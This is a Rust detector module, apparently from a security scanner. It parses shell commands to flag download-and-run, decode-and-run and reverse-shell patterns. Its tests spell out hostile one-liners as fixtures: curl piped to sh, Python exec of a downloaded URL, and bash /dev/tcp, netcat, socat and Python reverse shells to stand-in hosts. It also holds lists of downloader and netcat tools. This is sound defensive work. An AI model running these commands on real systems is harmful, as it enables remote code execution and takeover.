//! What a command line or a script does that honest ones seldom do: run what it just downloaded or unpacked without
//! looking at it, or hand a shell to another computer.
use super::shell::{List, Redirect, Stage, Word, parse};
use std::collections::BTreeSet;

/// What is odd about a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub enum Oddity {
    /// Downloaded text goes straight into a shell.
    DownloadRun,
    /// A file is downloaded, and the same command runs it.
    DownloadThenRun,
    /// Encoded text is unpacked straight into a shell.
    UnpackedRun,
    /// A shell is connected to another computer.
    ReverseShell,
}

impl Oddity {
    pub fn rule(self) -> &'static str {
        match self {
            Self::DownloadRun => "download-run-at-once",
            Self::DownloadThenRun => "download-then-run",
            Self::UnpackedRun => "unpacked-text-run",
            Self::ReverseShell => "shell-for-another-computer",
        }
    }

    /// Completes "It …".
    pub fn does(self) -> &'static str {
        match self {
            Self::DownloadRun => "downloads a program from the network and runs it at once, whatever it is",
            Self::DownloadThenRun => "downloads a file from the network and runs it",
            Self::UnpackedRun => "unpacks hidden text and runs it as a program",
            Self::ReverseShell => "opens a connection to another computer and lets it type commands here",
        }
    }
}

/// Longer scripts are read up to here.
const LONGEST: usize = 128 * 1024;

const DOWNLOADERS: [&str; 9] =
    ["curl", "wget", "fetch", "aria2c", "axel", "lwp-download", "lwp-request", "http", "tftp"];
const SHELLS: [&str; 9] = ["sh", "bash", "dash", "ash", "zsh", "ksh", "mksh", "fish", "tcsh"];
const LANGUAGES: [&str; 7] = ["python", "perl", "ruby", "node", "php", "lua", "osascript"];
const CONNECTORS: [&str; 4] = ["nc", "ncat", "netcat", "nc.traditional"];

/// Words before the real command, and how many plain words of their own they take.
const WRAPPERS: [(&str, usize, &[&str]); 33] = [
    ("sudo", 0, &["-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t"]),
    ("doas", 0, &["-u", "-C"]),
    ("env", 0, &["-u", "-C"]),
    ("nohup", 0, &[]),
    ("setsid", 0, &[]),
    ("exec", 0, &["-a"]),
    ("command", 0, &[]),
    ("builtin", 0, &[]),
    ("time", 0, &["-f", "-o"]),
    ("timeout", 1, &["-s", "-k"]),
    ("nice", 0, &["-n"]),
    ("ionice", 0, &["-c", "-n"]),
    ("chrt", 1, &[]),
    ("stdbuf", 0, &["-i", "-o", "-e"]),
    ("unbuffer", 0, &[]),
    ("chronic", 0, &[]),
    ("cronic", 0, &[]),
    ("flock", 1, &["-w", "-E"]),
    ("systemd-cat", 0, &["-t", "-p"]),
    ("systemd-run", 0, &["-u", "-p"]),
    ("xargs", 0, &["-I", "-n", "-P", "-d", "-L"]),
    ("busybox", 0, &[]),
    ("toybox", 0, &[]),
    ("logsave", 1, &[]),
    ("if", 0, &[]),
    ("then", 0, &[]),
    ("elif", 0, &[]),
    ("else", 0, &[]),
    ("while", 0, &[]),
    ("until", 0, &[]),
    ("do", 0, &[]),
    ("!", 0, &[]),
    ("trap", 0, &[]),
];

/// What a command line of a task, a unit or a profile does.
pub fn in_command(text: &str) -> BTreeSet<Oddity> {
    let mut found = BTreeSet::new();
    Look { found: &mut found, depth: 6 }.list(&parse(cut(text)));
    found
}

/// What a script does. Honest scripts of administrators download files and run them later; feeding a shell blindly or
/// serving one they do not.
pub fn in_script(text: &str) -> BTreeSet<Oddity> {
    let mut found = in_command(text);
    found.remove(&Oddity::DownloadThenRun);
    found
}

fn cut(text: &str) -> &str {
    let mut end = text.len().min(LONGEST);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    &text[..end]
}

/// What comes out of a command.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Output {
    Downloaded,
    Unpacked,
}

impl Output {
    fn oddity(self) -> Oddity {
        match self {
            Self::Downloaded => Oddity::DownloadRun,
            Self::Unpacked => Oddity::UnpackedRun,
        }
    }
}

struct Look<'f> {
    found: &'f mut BTreeSet<Oddity>,
    depth: u32,
}

impl Look<'_> {
    /// Looks through all commands; what the list writes, if that is of interest.
    fn list(&mut self, list: &List) -> Option<Output> {
        let mut downloads = BTreeSet::new();
        let mut written = None;
        for pipeline in &list.pipelines {
            let mut fed: Option<Output> = None;
            for stage in pipeline {
                fed = match stage {
                    Stage::Group(inner) => {
                        let out = self.list(inner);
                        if let Some(output) = fed.filter(|_| begins_with_shell(inner)) {
                            self.found.insert(output.oddity());
                        }
                        out.or(fed)
                    }
                    Stage::Command { words, redirects } => self.command(words, redirects, fed, &mut downloads),
                };
            }
            written = written.or(fed);
        }
        written
    }

    fn command(
        &mut self,
        words: &[Word],
        redirects: &[Redirect],
        fed: Option<Output>,
        downloads: &mut BTreeSet<String>,
    ) -> Option<Output> {
        let words = unwrapped(words);
        let put_in: Option<Output> = words
            .iter()
            .chain(redirects.iter().map(|r| &r.to))
            .flat_map(|w| &w.inner)
            .filter_map(|l| self.list(l))
            .next();
        let Some((first, arguments)) = words.split_first() else { return put_in };
        let name = tool(&first.text);
        let runs = runs_text(name);
        if let Some(output) = put_in.filter(|_| runs || first.text.is_empty()) {
            self.found.insert(output.oddity());
        }
        if let Some(output) = fed.filter(|_| reads_commands(name, arguments)) {
            self.found.insert(output.oddity());
        }
        if connects_a_shell(name, arguments, redirects) {
            self.found.insert(Oddity::ReverseShell);
        }
        if started(name, first, arguments).is_some_and(|file| downloads.contains(bare(file))) {
            self.found.insert(Oddity::DownloadThenRun);
        }
        for text in texts(name, arguments) {
            self.text(name, text);
        }
        if DOWNLOADERS.contains(&name) {
            downloads.extend(saved(name, arguments, redirects));
            return Some(Output::Downloaded);
        }
        if unpacks(name, arguments) {
            return Some(fed.unwrap_or(Output::Unpacked));
        }
        // What only passes text on passes its danger on; a shell that ran it gives something else.
        fed.filter(|_| !runs).or(put_in.filter(|_| matches!(name, "echo" | "printf" | "cat")))
    }

    /// A command line or a program handed over as one word.
    fn text(&mut self, name: &str, text: &str) {
        if is_language(name) {
            if text.contains("exec(") || text.contains("eval(") || text.contains("eval ") || text.contains("system(") {
                if ["urlopen", "requests.get", "http://", "https://"].iter().any(|w| text.contains(w)) {
                    self.found.insert(Oddity::DownloadRun);
                } else if ["b64decode", "base64_decode", "decode_base64", "fromhex"].iter().any(|w| text.contains(w)) {
                    self.found.insert(Oddity::UnpackedRun);
                }
            }
            let socket = ["socket", "fsockopen", "TCPSocket"].iter().any(|w| text.contains(w));
            let shell = text.contains("/bin/sh") || text.contains("/bin/bash") || text.contains("pty.spawn");
            let joined = ["dup2", "open(STD", "<&3", "subprocess", "exec("].iter().any(|w| text.contains(w));
            if socket && shell && joined {
                self.found.insert(Oddity::ReverseShell);
            }
        } else if self.depth > 0 {
            Look { found: self.found, depth: self.depth - 1 }.list(&parse(text));
        }
    }
}

/// The command behind `sudo -u x`, `env A=b`, `timeout 5` and the like.
fn unwrapped(mut words: &[Word]) -> &[Word] {
    loop {
        while words.first().is_some_and(|w| is_assignment(&w.text) && w.inner.is_empty()) {
            words = &words[1..];
        }
        let Some(first) = words.first() else { return words };
        let Some((_, own, with_value)) = WRAPPERS.iter().find(|(n, ..)| *n == tool(&first.text)) else { return words };
        let mut rest = &words[1..];
        let mut own = *own;
        while let Some(next) = rest.first() {
            if with_value.contains(&next.text.as_str()) {
                rest = rest.get(2..).unwrap_or_default();
            } else if (next.text.starts_with('-') && next.text.len() > 1) || is_assignment(&next.text) {
                // `flock file -c 'text'`: the text is the command.
                if next.text == "-c" {
                    return words;
                }
                rest = &rest[1..];
            } else if own > 0 {
                own -= 1;
                rest = &rest[1..];
            } else {
                break;
            }
        }
        if rest.is_empty() {
            return words;
        }
        words = rest;
    }
}

fn is_assignment(text: &str) -> bool {
    text.split_once('=').is_some_and(|(name, _)| {
        !name.is_empty()
            && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
            && !name.as_bytes()[0].is_ascii_digit()
    })
}

fn tool(word: &str) -> &str {
    word.rsplit('/').next().unwrap_or(word)
}

fn is_language(name: &str) -> bool {
    LANGUAGES.iter().any(|l| name.strip_prefix(l).is_some_and(|v| v.bytes().all(|b| b.is_ascii_digit() || b == b'.')))
}

/// Takes program text from its words.
fn runs_text(name: &str) -> bool {
    SHELLS.contains(&name) || is_language(name) || matches!(name, "eval" | "source" | ".")
}

/// Takes program text from what is fed to it.
fn reads_commands(name: &str, arguments: &[Word]) -> bool {
    let mut words = arguments.iter().map(|w| w.text.as_str());
    if SHELLS.contains(&name) {
        for word in words {
            match word {
                "-" | "/dev/stdin" | "/proc/self/fd/0" => return true,
                "-s" | "--" => return true,
                w if w.starts_with("--") => {}
                w if w.starts_with('-') || w.starts_with('+') => {
                    if w.contains('s') {
                        return true;
                    }
                    if w.contains('c') {
                        return false;
                    }
                }
                _ => return false,
            }
        }
        true
    } else if is_language(name) {
        words.all(|w| matches!(w, "-" | "-u" | "-B" | "-E" | "-s" | "/dev/stdin"))
    } else {
        matches!((name, words.next()), ("source" | ".", Some("/dev/stdin" | "/proc/self/fd/0")))
    }
}

fn begins_with_shell(list: &List) -> bool {
    matches!(list.pipelines.first().and_then(|p| p.first()), Some(Stage::Command { words, .. })
        if unwrapped(words).split_first().is_some_and(|(first, rest)| reads_commands(tool(&first.text), rest)))
}

fn connects_a_shell(name: &str, arguments: &[Word], redirects: &[Redirect]) -> bool {
    let device = |w: &Word| w.text.starts_with("/dev/tcp/") || w.text.starts_with("/dev/udp/");
    let shell = |w: &Word| SHELLS.contains(&tool(&w.text));
    let flag = |letters: [char; 2]| {
        arguments.iter().any(|w| w.text.starts_with('-') && !w.text.starts_with("--") && w.text.contains(letters))
    };
    let to_device = redirects.iter().any(|r| device(&r.to));
    // Asking whether a port answers (`</dev/tcp/host/80`) is usual; an interactive shell over it, or one kept open, not.
    let interactive = SHELLS.contains(&name) && to_device && arguments.iter().any(|w| w.text.starts_with("-i"));
    let kept_open = redirects.iter().any(|r| device(&r.to) && r.sign == "<>") && name == "exec";
    let connector = CONNECTORS.contains(&name) && flag(['e', 'c']) && arguments.iter().any(shell);
    let socat = name == "socat"
        && arguments.iter().any(|w| {
            let word = w.text.to_ascii_lowercase();
            (word.starts_with("exec:") || word.starts_with("system:"))
                && SHELLS.iter().any(|s| word.contains(&format!("/{s}")))
        });
    interactive || kept_open || connector || socat
}

/// Words that are themselves command lines or programs.
fn texts<'w>(name: &str, arguments: &'w [Word]) -> Vec<&'w str> {
    let after = |flags: &[&str]| {
        let at = arguments.iter().position(|w| {
            flags.contains(&w.text.as_str())
                || (SHELLS.contains(&name) && w.text.starts_with('-') && w.text.ends_with('c'))
        });
        at.and_then(|at| arguments.get(at + 1)).map(|w| w.text.as_str()).into_iter().collect()
    };
    match name {
        "eval" => arguments.iter().map(|w| w.text.as_str()).collect(),
        "su" | "runuser" | "script" | "flock" => after(&["-c", "--command"]),
        _ if SHELLS.contains(&name) => after(&["-c"]),
        _ if is_language(name) => after(&["-c", "-e", "-r", "-E", "--eval"]),
        _ => Vec::new(),
    }
}

/// The file that this command starts, as it is written.
fn started<'w>(name: &str, first: &'w Word, arguments: &'w [Word]) -> Option<&'w str> {
    if SHELLS.contains(&name) || is_language(name) || matches!(name, "source" | ".") {
        return arguments.iter().map(|w| w.text.as_str()).find(|w| !w.starts_with('-'));
    }
    Some(&first.text)
}

/// The files into which a downloader saves.
fn saved(name: &str, arguments: &[Word], redirects: &[Redirect]) -> Vec<String> {
    let mut files: Vec<String> =
        redirects.iter().filter(|r| r.sign.starts_with('>')).map(|r| bare(&r.to.text).to_owned()).collect();
    let value = if name == "wget" { ["-O", "--output-document"] } else { ["-o", "--output"] };
    let mut named = false;
    for (at, word) in arguments.iter().enumerate() {
        let text = word.text.as_str();
        let short = text.starts_with('-') && !text.starts_with("--") && text.ends_with(&value[0][1..]);
        if text == value[1] || short {
            files.extend(arguments.get(at + 1).map(|w| bare(&w.text).to_owned()));
            named = true;
        } else if let Some(file) = text.strip_prefix(value[1]).and_then(|t| t.strip_prefix('=')) {
            files.push(bare(file).to_owned());
            named = true;
        }
    }
    let own_name = name == "wget" || arguments.iter().any(|w| w.text.starts_with('-') && w.text.contains('O'));
    if !named && own_name {
        let urls = arguments.iter().filter(|w| w.text.contains('/') && !w.text.starts_with('-'));
        files.extend(urls.map(|w| tool(&w.text).to_owned()).filter(|n| !n.is_empty()));
    }
    files.retain(|f| !f.is_empty() && f != "-" && !f.starts_with("/dev/"));
    files
}

fn bare(file: &str) -> &str {
    file.strip_prefix("./").unwrap_or(file)
}

fn unpacks(name: &str, arguments: &[Word]) -> bool {
    let has = |flags: &[&str]| arguments.iter().any(|w| flags.contains(&w.text.as_str()));
    match name {
        "base64" | "base32" | "basenc" => has(&["-d", "-D", "--decode", "-di", "-id"]),
        "openssl" => has(&["-d"]),
        "xxd" => arguments.iter().any(|w| w.text.starts_with("-r") || w.text == "-p"),
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn oddities(text: &str) -> Vec<Oddity> {
        in_command(text).into_iter().collect()
    }

    #[test]
    fn a_download_that_feeds_a_shell_is_seen_however_it_is_written() {
        for text in [
            "curl -fsSL http://h/i.sh | sh",
            "(curl -fsSL http://h/i.sh || wget -q -O- http://h/i.sh) | sh >/dev/null 2>&1",
            "wget -qO- h/x|/bin/bash",
            "curl h | sudo -E bash -s -- --now",
            "curl h | env A=b nohup bash &",
            "curl h | tee /tmp/log | sh",
            "curl h | base64 -d | sh",
            "curl h | python3 -",
            "bash <(curl -s h)",
            "source <(wget -qO- h)",
            ". <(curl h)",
            "sh -c \"$(curl -fsSL h)\"",
            "eval \"$(curl h)\"",
            "eval `wget -qO- h`",
            "$(curl h)",
            "/bin/sh -c 'curl -s h | sh'",
            "su www-data -c \"curl h | bash\"",
            "if true; then curl h | sh; fi",
            "timeout 30 curl h | timeout 30 sh",
            "python3 -c \"import urllib.request as u; exec(u.urlopen('http://h/p').read())\"",
            "busybox wget -O- h | busybox sh",
            "curl h | { bash; }",
            "flock /tmp/l -c 'curl h | sh'",
        ] {
            assert_eq!(oddities(text), [Oddity::DownloadRun], "{text}");
        }
    }

    #[test]
    fn honest_commands_are_left_alone() {
        for text in [
            "curl -fsS -m 10 https://hc-ping.example/uuid >/dev/null",
            "curl -s https://h/list.json | python3 -m json.tool",
            "curl -s h | python3 -c 'import json,sys; print(json.load(sys.stdin)[0])'",
            "curl -s h | sh ./process-input.sh",
            "curl -s h | bash -c 'cat > /srv/list'",
            "curl -fsSL https://h/key | sudo gpg --dearmor -o /usr/share/keyrings/k.gpg",
            "wget -qO- h | sudo tee /etc/apt/sources.list.d/x.list",
            "curl -s h | tar -xz -C /opt/app",
            "eval \"$(ssh-agent -s)\"",
            "eval \"$(lesspipe)\"",
            "source <(kubectl completion bash)",
            "[ -s \"$NVM_DIR/nvm.sh\" ] && . \"$NVM_DIR/nvm.sh\"",
            "cd / && run-parts --report /etc/cron.hourly",
            "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }",
            "timeout 1 bash -c '</dev/tcp/db/5432'",
            "echo secret | base64 -d > /srv/key",
            "tar czf /srv/b.tgz /home; curl -T /srv/b.tgz ftp://h/",
            "curl -o /srv/data.csv h; sh /srv/import.sh",
            "wget -q -O /srv/list.txt h && /usr/local/bin/import /srv/list.txt",
            "ls | sh -c 'wc -l'",
            "nc -z host 22",
        ] {
            assert_eq!(oddities(text), [], "{text}");
        }
    }

    #[test]
    fn a_downloaded_file_that_is_run_at_once_is_seen() {
        for text in [
            "curl -o /tmp/a http://h/a && chmod +x /tmp/a && /tmp/a",
            "wget -O /tmp/a.sh h; sh /tmp/a.sh",
            "cd /tmp; wget http://h/x.sh; bash x.sh",
            "curl -sO http://h/x && chmod 755 x && ./x",
            "curl h > /tmp/z; bash /tmp/z",
            "wget -qO /tmp/u h && python3 /tmp/u",
        ] {
            assert_eq!(oddities(text), [Oddity::DownloadThenRun], "{text}");
        }
        assert!(in_script("#!/bin/sh\ncurl -o i.sh h\nsh i.sh\n").is_empty(), "administrators' scripts do that");
    }

    #[test]
    fn unpacked_text_that_feeds_a_shell_is_seen() {
        for text in [
            "echo ZWNobwo= | base64 -d | sh",
            "base64 --decode /srv/x | bash",
            "eval \"$(echo ZWNobwo= | base64 -d)\"",
            "bash -c \"$(printf %s ZWNobwo= | base64 -d)\"",
            "python3 -c \"import base64;exec(base64.b64decode('eA=='))\"",
            "echo 6563 | xxd -r -p | sh",
        ] {
            assert_eq!(oddities(text), [Oddity::UnpackedRun], "{text}");
        }
    }

    #[test]
    fn a_shell_for_another_computer_is_seen() {
        for text in [
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "/bin/bash -c 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
            "nc -e /bin/sh 192.0.2.1 4444",
            "ncat 192.0.2.1 4444 -e /bin/bash",
            "socat tcp:192.0.2.1:4444 exec:/bin/sh,pty",
            "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"h\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
        ] {
            assert_eq!(oddities(text), [Oddity::ReverseShell], "{text}");
        }
    }

    #[test]
    fn a_script_that_only_writes_such_a_line_down_does_not_do_it() {
        let script = "#!/bin/sh\n# curl h | sh\ncat > /srv/help <<EOF\ncurl h | sh\nEOF\necho 'curl h | sh'\n";
        assert!(in_script(script).is_empty());
    }
}
